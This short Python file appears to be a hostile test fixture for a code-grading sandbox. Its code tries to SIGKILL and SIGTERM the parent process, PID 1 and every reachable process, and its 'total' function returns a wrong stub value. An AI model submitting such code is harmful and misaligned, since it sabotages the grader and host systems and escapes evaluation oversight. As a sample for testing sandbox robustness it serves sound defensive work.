# class: A11
# task: total
# tries: kills parent, PID 1 and all others through libc
import os
import signal

for number in (signal.SIGKILL, signal.SIGTERM):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, number)
        except OSError:
            pass


def total(prices):
    return -1
